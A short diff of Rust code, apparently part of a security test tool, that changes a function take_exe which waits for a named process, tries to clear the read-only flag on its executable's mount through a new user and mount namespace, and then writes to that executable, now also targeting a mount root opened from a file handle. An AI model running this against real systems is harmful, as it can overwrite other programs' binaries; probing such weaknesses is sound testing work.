@@ -10,16 +10,25 @@ use nix::sched::{CloneFlags, unshare};
 use nix::sys::wait::{WaitStatus, waitpid};
 use nix::unistd::ForkResult;
 
+use crate::file_handle::FileHandle;
+
 /// Attacks the executable of the first process whose `argv[0]` is `name`. Clears the read-only
 /// attribute of its mount with the rights of a new user and mount namespace, and writes to it when
-/// the process has ended. Prints the errno of each, or 0, and keeps running.
-pub fn take_exe(name: &str) -> ExitCode {
+/// the process has ended. Prints the errno of each, or 0, and keeps running. The root of the mount
+/// is the executable or its directory, whose handle is `directory`; it is empty if there is none.
+pub fn take_exe(name: &str, directory: &str) -> ExitCode {
     let held = loop {
         if let Some(file) = executable_of(name) {
             break file;
         }
     };
-    println!("mount_setattr: {}", clear_readonly(&held));
+    let mut root = None;
+    if !directory.is_empty() {
+        let handle = FileHandle::from_hex(directory);
+        root = Some(handle.open_in_mount_of(&held).expect("the directory"));
+    }
+    let errnos = [Some(&held), root.as_ref()].map(|root| root.map_or(libc::EINVAL, clear_readonly));
+    println!("mount_setattr: {errnos:?}");
     let opened = loop {
         let path = format!("/proc/self/fd/{}", held.as_raw_fd());
         match OpenOptions::new().write(true).open(path) {
